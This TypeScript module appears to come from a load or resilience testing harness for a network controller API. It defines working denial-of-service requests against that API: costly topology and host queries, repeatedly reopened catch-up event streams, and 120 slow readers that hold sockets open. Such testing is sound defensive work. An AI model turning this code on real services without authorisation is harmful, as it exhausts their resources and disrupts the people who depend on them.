/** Expensive reads: requests whose work grows with the network, streams, and readers that take their answers slowly. */
import type { Socket } from "node:net";
import { type Attack, openSocket, repeat, requestText, type Stop, sleep, type Target } from "./attack.ts";

const STREAM_REOPEN_MS = 2000;
const SLOW_READERS = 120;
const SLOW_INTERVAL_MS = 1000;

/** Sends a GET and discards the body as it comes. */
async function drain(target: Target, path: string, encoding: string, signal: AbortSignal): Promise<void> {
  const headers = { Authorization: target.authorization, "Accept-Encoding": encoding };
  const response = await fetch(target.url + path, { headers, decompress: false, signal });
  for await (const _ of response.body ?? []) if (signal.aborted) return;
  if (!response.ok) await sleep(20, signal);
}

function request(
  name: string,
  what: string,
  path: string | ((target: Target) => string),
  encoding = "identity",
): Attack {
  return {
    name,
    what,
    start: async (target) =>
      repeat((signal) => drain(target, typeof path === "string" ? path : path(target), encoding, signal)),
  };
}

/** Opens event streams that are read, one for each path. */
async function openStreams(target: Target, paths: readonly string[]): Promise<Socket[]> {
  return Promise.all(
    paths.map(async (path) => {
      const socket = await openSocket(target);
      socket.resume();
      socket.write(requestText(path, { Authorization: target.authorization }));
      return socket;
    }),
  );
}

/** Streams that begin with a catch-up from the first revision, opened again and again. */
function catchUpStreams(name: string, count: number): Attack {
  const path = "/controller/v1/hosts?format=events&since=0&q=zzz";
  return {
    name,
    what: `since=0&q=zzz: ${count} stream${count === 1 ? "" : "s"}, opened again every 2 s`,
    start: async (target) =>
      repeat(async (signal) => {
        const sockets = await openStreams(target, Array<string>(count).fill(path));
        await sleep(STREAM_REOPEN_MS, signal);
        for (const socket of sockets) socket.destroy();
      }),
  };
}

async function startAroundStreams(target: Target): Promise<Stop> {
  const paths = target.devices
    .slice(0, 100)
    .map((id) => `/controller/v1/topology?format=events&around=${encodeURIComponent(id)}&hops=64`);
  const sockets = await openStreams(target, paths);
  return async () => {
    for (const socket of sockets) socket.destroy();
    return undefined;
  };
}

function permutations(items: readonly string[]): string[][] {
  if (items.length <= 1) return [[...items]];
  return items.flatMap((item) =>
    permutations(items.filter((other) => other !== item)).map((rest) => [item, ...rest]),
  );
}

/** Each reads one chunk a second of a large answer that no other reader shares. */
async function startSlowReaders(target: Target): Promise<Stop> {
  const orders = permutations(["vlan", "mac", "id", "suspended", "configured"]).slice(0, SLOW_READERS);
  const sockets: Socket[] = [];
  let chunks = 0;
  for (const order of orders) {
    const socket = await openSocket(target);
    socket.on("data", () => {
      chunks++;
      socket.pause();
    });
    socket.write(
      requestText(`/controller/v1/hosts?sort=${order.join(",")}`, { Authorization: target.authorization }),
    );
    sockets.push(socket);
  }
  const timer = setInterval(() => {
    for (const socket of sockets) socket.resume();
  }, SLOW_INTERVAL_MS);
  return async () => {
    clearInterval(timer);
    const open = sockets.filter((socket) => !socket.destroyed).length;
    for (const socket of sockets) socket.destroy();
    return `${open} of ${sockets.length} readers still connected, ${chunks} chunks read`;
  };
}

export const REQUEST_ATTACKS: readonly Attack[] = [
  request("graphml", "GET /topology?format=graphml", "/controller/v1/topology?format=graphml"),
  request("csv-br", "GET /hosts?format=csv with br", "/controller/v1/hosts?format=csv", "br"),
  request("rfc8345", "GET /topology?format=rfc8345", "/controller/v1/topology?format=rfc8345"),
  request("q", "GET /hosts?q=a", "/controller/v1/hosts?q=a"),
  request("diff", "GET /topology?diff=0..", "/controller/v1/topology?diff=0.."),
  request("svg", "GET /topology?format=svg", "/controller/v1/topology?format=svg"),
  request(
    "around",
    "GET /hosts?around&hops=64",
    ({ devices }) => `/controller/v1/hosts?around=${encodeURIComponent(devices[0] ?? "")}&hops=64`,
  ),
  request("onos-hosts", "GET /onos/v1/hosts", "/onos/v1/hosts"),
  request(
    "sort-repeated",
    "GET /hosts?sort=vlan, a thousand times in one parameter",
    `/controller/v1/hosts?sort=${Array<string>(1000).fill("vlan").join(",")}`,
  ),
  catchUpStreams("since-stream", 1),
  catchUpStreams("since-streams", 50),
  { name: "around-streams", what: "100 streams of around&hops=64", start: startAroundStreams },
  { name: "slow-readers", what: "120 slow readers of distinct queries", start: startSlowReaders },
];
